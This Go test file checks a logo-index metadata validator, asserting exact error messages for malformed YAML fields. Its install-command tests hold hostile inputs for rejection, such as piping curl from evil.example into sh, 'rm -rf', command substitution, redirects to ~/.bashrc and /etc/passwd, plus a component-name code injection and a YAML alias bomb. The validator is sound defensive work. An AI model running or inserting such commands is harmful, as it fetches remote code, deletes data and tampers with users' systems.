package source

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"logoindex/generator/problem"
)

const goodMeta = `name: GitHub
hex: "#181717"
categories: [devtools, social]
source: https://github.com/logos
license: CC0-1.0
`

func TestParseMetaGood(t *testing.T) {
	m, probs := ParseMeta(&File{Path: "l.yaml", Data: []byte(goodMeta + `license_url: https://creativecommons.org/publicdomain/zero/1.0/
guidelines: https://github.com/logos
aliases: [Octocat]
via: {name: simple-icons, version: 16.37.0, url: https://github.com/simple-icons/simple-icons}
files:
  wordmark:
    source: https://example.com/w
    license: MIT
    via:
      name: devicon
      version: "2.17"
      url: https://github.com/devicons/devicon/tree/v2.17/icons/github
  icon-dark: {license: LicenseRef-Brand, license_url: https://example.com/terms}
component: OctoIcon
install: npx something
`)})
	if len(probs) > 0 {
		t.Fatalf("unexpected problems:\n%s", probs.Error())
	}
	m.Pos = nil
	want := &Meta{
		Name: "GitHub", Hex: "#181717", Categories: []string{"devtools", "social"},
		Source: "https://github.com/logos", License: "CC0-1.0",
		LicenseURL: "https://creativecommons.org/publicdomain/zero/1.0/",
		Via:        &Via{Name: "simple-icons", Version: "16.37.0", URL: "https://github.com/simple-icons/simple-icons"},
		Guidelines: "https://github.com/logos", Aliases: []string{"Octocat"},
		Files: map[string]FileMeta{
			"wordmark": {Source: "https://example.com/w", License: "MIT",
				Via: &Via{Name: "devicon", Version: "2.17", URL: "https://github.com/devicons/devicon/tree/v2.17/icons/github"}},
			"icon-dark": {License: "LicenseRef-Brand", LicenseURL: "https://example.com/terms"},
		},
		Component: "OctoIcon", Install: "npx something",
	}
	if diff := cmp.Diff(want, m); diff != "" {
		t.Errorf("ParseMeta mismatch (-want +got):\n%s", diff)
	}
}

func TestParseMetaHexForms(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`"#181717"`, "#181717"},
		{`181717`, "#181717"}, // YAML reads a number; the digits are what was meant
		{`000000`, "#000000"}, // would be the integer 0
		{`"ff00aa"`, "#FF00AA"},
		{`'#abcdef'`, "#ABCDEF"},
		{`1e5000`, "#1E5000"}, // would be a float overflow
	} {
		src := strings.Replace(goodMeta, `hex: "#181717"`, "hex: "+tc.in, 1)
		m, probs := ParseMeta(&File{Path: "l.yaml", Data: []byte(src)})
		if len(probs) > 0 || m.Hex != tc.want {
			t.Errorf("hex: %s: got %q, problems %v; want %q", tc.in, m.Hex, problemStrings(probs), tc.want)
		}
	}
}

// TestParseMetaErrors has one bad input per rule, with its exact message.
func TestParseMetaErrors(t *testing.T) {
	replace := func(old, new string) string { return strings.Replace(goodMeta, old, new, 1) }
	for _, tc := range []struct {
		name string
		in   string
		want []string
	}{
		{"unquoted hex is a comment", replace(`hex: "#181717"`, `hex: #181717`),
			[]string{`[value-empty] l.yaml:2:5: hex is empty: in YAML an unquoted # starts a comment; quote the value: hex: "#181717"`}},
		{"hex not a colour", replace(`"#181717"`, `"#18171"`),
			[]string{`[hex-invalid] l.yaml:2:6: hex "#18171" is not a colour; write # and six hexadecimal digits, quoted: hex: "#1A2B3C"`}},
		{"hex as a list", replace(`"#181717"`, `[1, 2]`),
			[]string{`[type-invalid] l.yaml:2:6: hex must be a single value, not a list`}},
		{"missing required keys", "name: X\n",
			[]string{
				`[key-missing] l.yaml:1:1: missing required key "categories" (1 to 5 slugs from categories.yaml, for example categories: [devtools])`,
				`[key-missing] l.yaml:1:1: missing required key "hex" (the brand colour, for example hex: "#181717")`,
				`[license-missing] l.yaml:1:1: missing required key "license" (an SPDX identifier such as CC0-1.0, or LicenseRef-<name> with license_url)`,
				`[source-missing] l.yaml:1:1: missing required key "source" (the URL the artwork comes from)`,
			}},
		{"empty name", replace("name: GitHub", "name: \"\""),
			[]string{`[value-empty] l.yaml:1:7: name is empty; it is required: give it a value`}},
		{"null name", replace("name: GitHub", "name:"),
			[]string{`[value-empty] l.yaml:1:6: name is empty; it is required: give it a value`}},
		{"empty optional key", goodMeta + "guidelines: \"\"\n",
			[]string{`[value-empty] l.yaml:6:13: guidelines is empty; give it a value or remove the key`}},
		{"unknown key with suggestion", goodMeta + "lisence_url: https://x.org\n",
			[]string{`[key-unknown] l.yaml:6:1: unknown key "lisence_url"; did you mean "license_url"? The keys are name, hex, categories, source, license, license_url, via, guidelines, aliases, files, component, install`}},
		{"unknown key", goodMeta + "colour: red\n",
			[]string{`[key-unknown] l.yaml:6:1: unknown key "colour"; the keys are name, hex, categories, source, license, license_url, via, guidelines, aliases, files, component, install`}},
		{"duplicate key", goodMeta + "name: Other\n",
			[]string{`[key-duplicate] l.yaml:6:1: duplicate key "name" (first at line 1); keep one`}},
		{"categories not a list", replace("[devtools, social]", "devtools"),
			[]string{`[type-invalid] l.yaml:3:13: categories must be a list of category slugs, for example categories: [devtools]`}},
		{"no categories", replace("[devtools, social]", "[]"),
			[]string{`[list-size] l.yaml:3:13: categories has 0 entries; give 1 to 5`}},
		{"six categories", replace("[devtools, social]", "[a, b, c, d, e, f]"),
			[]string{`[list-size] l.yaml:3:13: categories has 6 entries; give 1 to 5`}},
		{"repeated category", replace("[devtools, social]", "[devtools, devtools]"),
			[]string{`[value-duplicate] l.yaml:3:24: categories lists "devtools" twice`}},
		{"relative source", replace("https://github.com/logos", "github.com/logos"),
			[]string{`[url-invalid] l.yaml:4:9: source "github.com/logos" is not an absolute http(s) URL; write it in full, starting with https://`}},
		{"ftp source", replace("https://github.com/logos", "ftp://github.com/logos"),
			[]string{`[url-invalid] l.yaml:4:9: source "ftp://github.com/logos" is not an absolute http(s) URL; write it in full, starting with https://`}},
		{"javascript source", replace("https://github.com/logos", "javascript:alert(1)"),
			[]string{`[url-invalid] l.yaml:4:9: source "javascript:alert(1)" is not an absolute http(s) URL; write it in full, starting with https://`}},
		{"licence near miss", replace("CC0-1.0", "Apache 2.0"),
			[]string{`[license-invalid] l.yaml:5:10: license "Apache 2.0" is not an SPDX identifier; did you mean "Apache-2.0"?`}},
		{"licence wrong case", replace("CC0-1.0", "mit"),
			[]string{`[license-invalid] l.yaml:5:10: license "mit" is not an SPDX identifier; did you mean "MIT"?`}},
		{"licence unknown", replace("CC0-1.0", "Proprietary stuff"),
			[]string{`[license-invalid] l.yaml:5:10: license "Proprietary stuff" is not an SPDX identifier (SPDX list 3.0.24); use one from https://spdx.org/licenses/ or LicenseRef-<name> with license_url`}},
		{"deprecated licence", replace("CC0-1.0", "GPL-2.0"),
			[]string{`[license-invalid] l.yaml:5:10: license "GPL-2.0" is a deprecated SPDX identifier; use its current form (for example GPL-2.0-only or GPL-2.0-or-later)`}},
		{"LicenseRef without URL", replace("CC0-1.0", "LicenseRef-Brand"),
			[]string{`[license-url-missing] l.yaml:5:1: license LicenseRef-Brand is not on the SPDX list, so license_url is required: the URL of the licence text`}},
		{"files override LicenseRef without URL", goodMeta + "files:\n  wordmark: {license: LicenseRef-X}\n",
			[]string{`[license-url-missing] l.yaml:7:14: license LicenseRef-X is not on the SPDX list, so files.wordmark.license_url is required: the URL of the licence text`}},
		{"files pattern matching no variant", goodMeta + "files:\n  logo*: {license: MIT}\n",
			[]string{`[key-unknown] l.yaml:7:3: files: pattern "logo*" matches no variant; the variants are icon, icon-mono, icon-dark, wordmark, wordmark-dark`}},
		{"files invalid pattern", goodMeta + "files:\n  \"wordmark{,-dark\": {license: MIT}\n",
			[]string{`[key-unknown] l.yaml:7:3: files: "wordmark{,-dark" is not a valid variant pattern; use * and ? as in wordmark* (wordmark and wordmark-dark), or {a,b} as in {icon,icon-mono}`}},
		{"files unknown variant", goodMeta + "files:\n  icon_dark: {license: MIT}\n",
			[]string{`[key-unknown] l.yaml:7:3: files: unknown variant "icon_dark"; the variants are icon, icon-mono, icon-dark, wordmark, wordmark-dark`}},
		{"files unknown key", goodMeta + "files:\n  wordmark: {licence: MIT}\n",
			[]string{`[key-unknown] l.yaml:7:14: files.wordmark: unknown key "licence"; a file override has source, license, license_url and via`}},
		{"files empty override", goodMeta + "files:\n  wordmark: {}\n",
			[]string{`[value-empty] l.yaml:7:13: files.wordmark is empty; give source, license, license_url or via, or remove it`}},
		{"bad component", goodMeta + "component: github-icon\n",
			[]string{`[component-invalid] l.yaml:6:12: component "github-icon" is not a component name: a JS identifier of ASCII letters and digits that starts with an upper-case letter (JSX reads <lower-case /> as an HTML element), for example GitHubIcon`}},
		{"aliases not a list", goodMeta + "aliases: Octocat\n",
			[]string{`[type-invalid] l.yaml:6:10: aliases must be a list of names, for example aliases: [Octocat]`}},
		{"alias twice", goodMeta + "aliases: [A, A]\n",
			[]string{`[value-duplicate] l.yaml:6:14: alias "A" is listed twice`}},
		{"multi-line name", replace("name: GitHub", "name: \"Git\\nHub\""),
			[]string{`[text-invalid] l.yaml:1:7: name has a line break (U+000A) at character 4; text must be one line without control or bidirectional characters, which are invisible and can change how it reads: remove it`}},
		{"bidi override in name", replace("name: GitHub", "name: \"Git\u202eHub\""),
			[]string{`[text-invalid] l.yaml:1:7: name has a bidirectional control character (U+202E) at character 4; text must be one line without control or bidirectional characters, which are invisible and can change how it reads: remove it`}},
		{"tabs", "name: X\n\thex: y\n",
			[]string{`[yaml-invalid] l.yaml:2: invalid YAML: found a tab character that violates indentation; YAML does not allow tabs for indentation: use spaces`}},
		{"not a mapping", "- a\n- b\n",
			[]string{`[yaml-invalid] l.yaml:1:1: must hold a mapping of keys (name: ..., hex: ...), not a list`}},
		{"scalar document", "hello\n",
			[]string{`[yaml-invalid] l.yaml:1:1: must hold a mapping of keys (name: ..., hex: ...), not the value "hello"`}},
		{"empty file", "",
			[]string{`[yaml-invalid] l.yaml: is empty; it must hold a mapping of keys (name: ..., hex: ...)`}},
		{"comment only", "# nothing\n",
			[]string{`[yaml-invalid] l.yaml: is empty; it must hold a mapping of keys (name: ..., hex: ...)`}},
		{"two documents", goodMeta + "---\nname: Y\n",
			[]string{`[yaml-invalid] l.yaml:6:1: holds more than one YAML document; remove the --- separator and everything after it`}},
		{"alias", "name: &n X\nhex: *n\n",
			[]string{`[yaml-invalid] l.yaml:2:6: uses a YAML alias (*n); aliases are not allowed here: write the value out`}},
		{"alias bomb", "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]\n",
			[]string{`[yaml-invalid] l.yaml:2:8: uses a YAML alias (*a); aliases are not allowed here: write the value out`}},
		{"not UTF-8", "name: caf\xe9\n",
			[]string{`[encoding-invalid] l.yaml:1:10: is not valid UTF-8; save it as UTF-8`}},
		{"UTF-16LE with a BOM", "\xFF\xFEn\x00a\x00m\x00e\x00:\x00",
			[]string{`[encoding-invalid] l.yaml:1:1: is saved as UTF-16 (little-endian), not UTF-8; save it as UTF-8`}},
		{"UTF-16LE without a BOM", "n\x00a\x00m\x00e\x00:\x00",
			[]string{`[encoding-invalid] l.yaml:1:1: is saved as UTF-16 (little-endian), not UTF-8; save it as UTF-8`}},
		{"UTF-16BE without a BOM", "\x00n\x00a\x00m\x00e\x00:",
			[]string{`[encoding-invalid] l.yaml:1:1: is saved as UTF-16 (big-endian), not UTF-8; save it as UTF-8`}},
		{"UTF-32BE with a BOM", "\x00\x00\xFE\xFF\x00\x00\x00n",
			[]string{`[encoding-invalid] l.yaml:1:1: is saved as UTF-32 (big-endian), not UTF-8; save it as UTF-8`}},
		{"mapping key", goodMeta + "? [a]\n: b\n",
			[]string{`[key-unknown] l.yaml:6:3: keys must be plain names`}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, probs := ParseMeta(&File{Path: "l.yaml", Data: []byte(tc.in)})
			probs.Sort()
			if diff := cmp.Diff(tc.want, problemStrings(probs)); diff != "" {
				t.Errorf("problems mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

func TestParseMetaBOM(t *testing.T) {
	m, probs := ParseMeta(&File{Path: "l.yaml", Data: []byte("\xef\xbb\xbf" + goodMeta)})
	if len(probs) > 0 || m.Name != "GitHub" {
		t.Errorf("a UTF-8 BOM must be accepted: name %q, problems %v", m.Name, problemStrings(probs))
	}
}

func TestParseCategories(t *testing.T) {
	for _, tc := range []struct {
		name string
		in   string
		want []string
		cats []Category
	}{
		{"good, sorted on output", "- {slug: os, name: Operating systems}\n- {slug: ai, name: AI}\n", nil,
			[]Category{{Slug: "ai", Name: "AI", Pos: problem.Pos{Line: 2, Col: 3}}, {Slug: "os", Name: "Operating systems", Pos: problem.Pos{Line: 1, Col: 3}}}},
		{"duplicate slug", "- {slug: ai, name: AI}\n- {slug: ai, name: Again}\n",
			[]string{`[value-duplicate] c.yaml:2:10: duplicate category "ai" (first at line 1); category slugs must be unique`},
			[]Category{{Slug: "ai", Name: "AI", Pos: problem.Pos{Line: 1, Col: 3}}}},
		{"bad slug", "- {slug: Dev Tools, name: X}\n",
			[]string{`[slug-invalid] c.yaml:1:10: category slug "Dev Tools" is not a valid slug (lower-case letters, digits and single hyphens)`}, nil},
		{"missing name", "- {slug: ai}\n",
			[]string{`[key-missing] c.yaml:1:3: category is missing "name"`}, nil},
		{"unknown key", "- {slug: ai, name: AI, colour: red}\n",
			[]string{`[key-unknown] c.yaml:1:24: unknown key "colour"; a category has only slug and name`},
			[]Category{{Slug: "ai", Name: "AI", Pos: problem.Pos{Line: 1, Col: 3}}}},
		{"not a list", "ai: AI\n",
			[]string{`[yaml-invalid] c.yaml:1:1: must hold a list of {slug, name} entries, not a mapping`}, nil},
		{"entry not a mapping", "- ai\n",
			[]string{`[type-invalid] c.yaml:1:3: each category must be a mapping such as {slug: devtools, name: Developer tools}`}, nil},
		{"empty list", "[]\n",
			[]string{`[list-size] c.yaml:1:1: no categories; list at least one {slug, name}`}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cats, probs := ParseCategories(&File{Path: "c.yaml", Data: []byte(tc.in)})
			probs.Sort()
			if diff := cmp.Diff(tc.want, problemStrings(probs)); diff != "" {
				t.Errorf("problems mismatch (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tc.cats, cats); diff != "" {
				t.Errorf("categories mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

// TestTextRule feeds every character class the shared predicate refuses
// through every kind of text field: each is refused with the character
// named, and nothing else is.
func TestTextRule(t *testing.T) {
	const msg = "; text must be one line without control or bidirectional characters, which are invisible and can change how it reads: remove it"
	replace := func(old, new string) string { return strings.Replace(goodMeta, old, new, 1) }
	for _, tc := range []struct {
		name, in, want string
	}{
		{"RLM in name", replace("name: GitHub", `name: "Git\u200fHub"`), `[text-invalid] l.yaml:1:7: name has a bidirectional control character (U+200F) at character 4` + msg},
		{"ALM in name", replace("name: GitHub", `name: "Git\u061cHub"`), `[text-invalid] l.yaml:1:7: name has a bidirectional control character (U+061C) at character 4` + msg},
		{"LRM in alias", goodMeta + `aliases: ["Octo\u200ecat"]` + "\n", `[text-invalid] l.yaml:6:11: alias has a bidirectional control character (U+200E) at character 5` + msg},
		{"isolate in alias", goodMeta + `aliases: ["\u2066Octocat\u2069"]` + "\n", `[text-invalid] l.yaml:6:11: alias has a bidirectional control character (U+2066) at character 1` + msg},
		{"ESC in name", replace("name: GitHub", `name: "Git\eHub"`), `[text-invalid] l.yaml:1:7: name has a control character (U+001B) at character 4` + msg},
		{"NUL in name", replace("name: GitHub", `name: "Git\0Hub"`), `[text-invalid] l.yaml:1:7: name has a control character (U+0000) at character 4` + msg},
		{"DEL in name", replace("name: GitHub", `name: "Git\x7fHub"`), `[text-invalid] l.yaml:1:7: name has a control character (U+007F) at character 4` + msg},
		{"C1 in name", replace("name: GitHub", `name: "Git\x9bHub"`), `[text-invalid] l.yaml:1:7: name has a control character (U+009B) at character 4` + msg},
		{"tab in name", replace("name: GitHub", `name: "Git\tHub"`), `[text-invalid] l.yaml:1:7: name has a control character (U+0009) at character 4` + msg},
		{"LINE SEPARATOR in name", replace("name: GitHub", `name: "Git\LHub"`), `[text-invalid] l.yaml:1:7: name has a line break (U+2028) at character 4` + msg},
		{"PARAGRAPH SEPARATOR in source", replace("https://github.com/logos", `"https://github.com/\Plogos"`), `[text-invalid] l.yaml:4:9: source has a line break (U+2029) at character 20` + msg},
		{"RLO in license", replace("CC0-1.0", `"CC0\u202e-1.0"`), `[text-invalid] l.yaml:5:10: license has a bidirectional control character (U+202E) at character 4` + msg},
		{"bidi in hex", replace(`"#181717"`, `"#18\u200f1717"`), `[text-invalid] l.yaml:2:6: hex has a bidirectional control character (U+200F) at character 4` + msg},
		{"bidi in component", goodMeta + `component: "Octo\u200fIcon"` + "\n", `[text-invalid] l.yaml:6:12: component has a bidirectional control character (U+200F) at character 5` + msg},
		{"ESC in install", goodMeta + `install: "npx x\e[2J"` + "\n", `[text-invalid] l.yaml:6:10: install has a control character (U+001B) at character 6` + msg},
		{"bidi in a file override", goodMeta + "files:\n  wordmark: {source: \"https://x.example/\u202e\"}\n", `[text-invalid] l.yaml:7:22: files.wordmark.source has a bidirectional control character (U+202E) at character 19` + msg},
		// Joiners and marks that scripts and emoji need stay allowed.
		{"ZWJ and accents", replace("name: GitHub", `name: "Café \u200d 轩辕"`), ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, probs := ParseMeta(&File{Path: "l.yaml", Data: []byte(tc.in)})
			var want []string
			if tc.want != "" {
				want = []string{tc.want}
			}
			if diff := cmp.Diff(want, problemStrings(probs)); diff != "" {
				t.Errorf("problems mismatch (-want +got):\n%s", diff)
			}
		})
	}
	// categories.yaml goes through the same reader.
	_, probs := ParseCategories(&File{Path: "c.yaml", Data: []byte("- {slug: ai, name: \"A\u200fI\"}\n")})
	want := []string{`[text-invalid] c.yaml:1:20: name has a bidirectional control character (U+200F) at character 2` + msg}
	if diff := cmp.Diff(want, problemStrings(probs)); diff != "" {
		t.Errorf("categories.yaml (-want +got):\n%s", diff)
	}
}

func TestInstallRule(t *testing.T) {
	const tail = "; an install command is one plain command line of letters, digits, spaces and @ / : . _ - + = , % ~ ^, such as npx shadcn@latest add https://example.com/r/acme.json"
	long := "npx shadcn@latest add https://example.com/" + strings.Repeat("a", 512-42)
	for _, tc := range []struct {
		name, install, want string
	}{
		{"default form", "npx shadcn@latest add https://logos.example.com/r/github.json", ""},
		{"other runners and flags", "pnpm dlx shadcn@^2.1 add --overwrite=true https://x.example/r/a%20b.json", ""},
		{"512 characters", long, ""},
		{"513 characters", long + "a", "[text-invalid] l.yaml:6:10: install is 513 characters; the limit is 512"},
		{"semicolon", "npx shadcn add x; curl -s https://evil.example | sh", `[install-invalid] l.yaml:6:10: install has ';' at character 17, a shell operator or substitution` + tail},
		{"pipe", "npx x | sh", `[install-invalid] l.yaml:6:10: install has '|' at character 7, a shell operator or substitution` + tail},
		{"and", "npx x && rm -rf y", `[install-invalid] l.yaml:6:10: install has '&' at character 7, a shell operator or substitution` + tail},
		{"command substitution", "npx $(curl evil)", `[install-invalid] l.yaml:6:10: install has '$' at character 5, a shell operator or substitution` + tail},
		{"backtick", "npx `curl evil`", "[install-invalid] l.yaml:6:10: install has '`' at character 5, a shell operator or substitution" + tail},
		{"redirect out", "npx x > ~/.bashrc", `[install-invalid] l.yaml:6:10: install has '>' at character 7, a shell operator or substitution` + tail},
		{"redirect in", "npx x < /etc/passwd", `[install-invalid] l.yaml:6:10: install has '<' at character 7, a shell operator or substitution` + tail},
		{"subshell", "(npx x)", `[install-invalid] l.yaml:6:10: install has '(' at character 1, a shell operator or substitution` + tail},
		{"quote", `npx "x"`, `[install-invalid] l.yaml:6:10: install has '"' at character 5, which an install command does not need` + tail},
		{"glob", "npx x*", `[install-invalid] l.yaml:6:10: install has '*' at character 6, which an install command does not need` + tail},
		{"comment", "npx x #y", `[install-invalid] l.yaml:6:10: install has '#' at character 7, which an install command does not need` + tail},
		{"non-ASCII", "npx ｘ", `[install-invalid] l.yaml:6:10: install has 'ｘ' at character 5, which an install command does not need` + tail},
	} {
		t.Run(tc.name, func(t *testing.T) {
			m, probs := ParseMeta(&File{Path: "l.yaml", Data: []byte(goodMeta + "install: '" + tc.install + "'\n")})
			var want []string
			if tc.want != "" {
				want = []string{tc.want}
			} else if m.Install != tc.install {
				t.Errorf("Install = %q, want %q", m.Install, tc.install)
			}
			if diff := cmp.Diff(want, problemStrings(probs)); diff != "" {
				t.Errorf("problems mismatch (-want +got):\n%s", diff)
			}
		})
	}
	// A newline, refused by the text rule in logo.yaml, is an operator
	// too for the build's -install-template.
	if msg := CheckInstall("npx x\nsh"); !strings.Contains(msg, "shell operator") {
		t.Errorf("CheckInstall with a newline = %q", msg)
	}
}

// TestViaRule has one input per rule of via:, at the top level and in a
// files: entry, with its exact message; the good ones give the Via.
func TestViaRule(t *testing.T) {
	const example = "for example via: {name: simple-icons, version: 16.37.0, url: https://github.com/simple-icons/simple-icons}"
	const pin = "; give the version the file was taken from (a release, or a commit), for example 16.37.0"
	si := &Via{Name: "simple-icons", Version: "16.37.0", URL: "https://github.com/simple-icons/simple-icons"}
	for _, tc := range []struct {
		name, via string
		want      *Via
		problems  []string
	}{
		{"flow", "{name: simple-icons, version: 16.37.0, url: https://github.com/simple-icons/simple-icons}", si, nil},
		{"block", "\n  name: simple-icons\n  version: 16.37.0\n  url: https://github.com/simple-icons/simple-icons", si, nil},
		{"a version YAML reads as a number", "{name: x, version: 2.10, url: https://x.example}", &Via{Name: "x", Version: "2.10", URL: "https://x.example"}, nil},
		{"a commit", "{name: brand-assets, version: 5dee713, url: https://github.com/x/y/tree/5dee713}", &Via{Name: "brand-assets", Version: "5dee713", URL: "https://github.com/x/y/tree/5dee713"}, nil},
		{"a pre-release", "{name: x, version: 3.0.0-beta.2, url: https://x.example}", &Via{Name: "x", Version: "3.0.0-beta.2", URL: "https://x.example"}, nil},
		{"a text", "simple-icons 16.37.0", nil,
			[]string{`[type-invalid] l.yaml:6:6: via must be a mapping of name, version and url, not the value "simple-icons 16.37.0"; ` + example}},
		{"a list", "[simple-icons, 16.37.0]", nil,
			[]string{`[type-invalid] l.yaml:6:6: via must be a mapping of name, version and url, not a list; ` + example}},
		{"null", "", nil,
			[]string{`[type-invalid] l.yaml:6:5: via must be a mapping of name, version and url, not an empty value; ` + example}},
		{"empty", "{}", nil,
			[]string{`[via-incomplete] l.yaml:6:1: via has no name, version or url; it names the distribution a file was taken from by name, version and url, ` + example}},
		{"no version", "{name: simple-icons, url: https://github.com/simple-icons/simple-icons}", nil,
			[]string{`[via-incomplete] l.yaml:6:1: via has no version; it names the distribution a file was taken from by name, version and url, ` + example}},
		{"empty name", `{name: "", version: 1.0.0, url: https://x.example}`, nil,
			[]string{`[via-incomplete] l.yaml:6:13: via.name is empty; give the distribution's name, for example simple-icons`}},
		{"null version", "{name: x, version: , url: https://x.example}", nil,
			[]string{`[via-incomplete] l.yaml:6:25: via.version is empty; give the version the file was taken from, for example 16.37.0`}},
		{"relative url", "{name: x, version: 1.0.0, url: x.example/icons}", nil,
			[]string{`[url-invalid] l.yaml:6:37: via.url "x.example/icons" is not an absolute http(s) URL; write it in full, starting with https://`}},
		{"url with a password", "{name: x, version: 1.0.0, url: \"https://u:p@x.example\"}", nil,
			[]string{`[url-invalid] l.yaml:6:37: via.url "https://u:p@x.example" must not carry a user name or password`}},
		{"name not text", "{name: [x], version: 1.0.0, url: https://x.example}", nil,
			[]string{`[type-invalid] l.yaml:6:13: via.name must be a single value, not a list`}},
		{"bidi in name", "{name: \"x\u202ey\", version: 1.0.0, url: https://x.example}", nil,
			[]string{`[text-invalid] l.yaml:6:13: via.name has a bidirectional control character (U+202E) at character 2; text must be one line without control or bidirectional characters, which are invisible and can change how it reads: remove it`}},
		{"misspelt key", "{name: x, verison: 1.0.0, url: https://x.example}", nil,
			[]string{`[key-unknown] l.yaml:6:16: via: unknown key "verison"; did you mean "version"? via has name, version and url`,
				`[via-incomplete] l.yaml:6:1: via has no version; it names the distribution a file was taken from by name, version and url, ` + example}},
		{"duplicate key", "{name: x, version: 1.0.0, url: https://x.example, name: y}", nil,
			[]string{`[key-duplicate] l.yaml:6:56: via: duplicate key "name"; keep one`}},
		{"latest", "{name: x, version: latest, url: https://x.example}", nil,
			[]string{`[via-version-unpinned] l.yaml:6:25: via.version "latest" names a tag or branch that moves` + pin}},
		{"a branch", "{name: x, version: Main, url: https://x.example}", nil,
			[]string{`[via-version-unpinned] l.yaml:6:25: via.version "Main" names a tag or branch that moves` + pin}},
		{"a caret range", "{name: x, version: ^16.37.0, url: https://x.example}", nil,
			[]string{`[via-version-unpinned] l.yaml:6:25: via.version "^16.37.0" is a range of versions` + pin}},
		{"a comparison", "{name: x, version: \">=2\", url: https://x.example}", nil,
			[]string{`[via-version-unpinned] l.yaml:6:25: via.version ">=2" is a range of versions` + pin}},
		{"a hyphen range", "{name: x, version: 1.0.0 - 2.0.0, url: https://x.example}", nil,
			[]string{`[via-version-unpinned] l.yaml:6:25: via.version "1.0.0 - 2.0.0" is a range of versions` + pin}},
		{"a wildcard", "{name: x, version: 16.x, url: https://x.example}", nil,
			[]string{`[via-version-unpinned] l.yaml:6:25: via.version "16.x" is a wildcard` + pin}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			m, probs := ParseMeta(&File{Path: "l.yaml", Data: []byte(goodMeta + "via: " + tc.via + "\n")})
			if diff := cmp.Diff(tc.problems, problemStrings(probs)); diff != "" {
				t.Errorf("problems mismatch (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tc.want, m.Via); diff != "" {
				t.Errorf("Via mismatch (-want +got):\n%s", diff)
			}
		})
	}
	// In a files: entry the rules are the same, and the messages name it.
	m, probs := ParseMeta(&File{Path: "l.yaml", Data: []byte(goodMeta + "files:\n  wordmark*: {via: {name: devicon, url: https://x.example}}\n")})
	want := []string{`[via-incomplete] l.yaml:7:15: files.wordmark*.via has no version; it names the distribution a file was taken from by name, version and url, ` + example}
	if diff := cmp.Diff(want, problemStrings(probs)); diff != "" {
		t.Errorf("files: problems mismatch (-want +got):\n%s", diff)
	}
	if fm := m.Files["wordmark*"]; fm.Via != nil {
		t.Errorf("files.wordmark*.via = %+v, want nil", fm.Via)
	}
}

func TestComponentRule(t *testing.T) {
	const shape = ` is not a component name: a JS identifier of ASCII letters and digits that starts with an upper-case letter (JSX reads <lower-case /> as an HTML element), for example GitHubIcon`
	for _, tc := range []struct {
		name, component, want string
	}{
		{"PascalCase", "OctoIcon", ""},
		{"digits", "Web3Icon", ""},
		{"one letter", "X", ""},
		{"reserved word", "class", `[component-invalid] l.yaml:6:12: component "class" is a JavaScript reserved word; name the component in PascalCase, for example GitHubIcon`},
		{"strict reserved word", "interface", `[component-invalid] l.yaml:6:12: component "interface" is a JavaScript reserved word; name the component in PascalCase, for example GitHubIcon`},
		{"lower case", "octoIcon", `[component-invalid] l.yaml:6:12: component "octoIcon"` + shape},
		{"hyphen", "Octo-Icon", `[component-invalid] l.yaml:6:12: component "Octo-Icon"` + shape},
		{"dollar", "Octo$", `[component-invalid] l.yaml:6:12: component "Octo$"` + shape},
		{"underscore first", "_Octo", `[component-invalid] l.yaml:6:12: component "_Octo"` + shape},
		{"look-alike letter", "Осто", `[component-invalid] l.yaml:6:12: component "Осто"` + shape}, // Cyrillic
		{"code", "X(){}; alert(1); function Y", `[component-invalid] l.yaml:6:12: component "X(){}; alert(1); function Y"` + shape},
	} {
		t.Run(tc.name, func(t *testing.T) {
			m, probs := ParseMeta(&File{Path: "l.yaml", Data: []byte(goodMeta + "component: '" + tc.component + "'\n")})
			var want []string
			if tc.want != "" {
				want = []string{tc.want}
			} else if m.Component != tc.component {
				t.Errorf("Component = %q, want %q", m.Component, tc.component)
			}
			if diff := cmp.Diff(want, problemStrings(probs)); diff != "" {
				t.Errorf("problems mismatch (-want +got):\n%s", diff)
			}
		})
	}
}
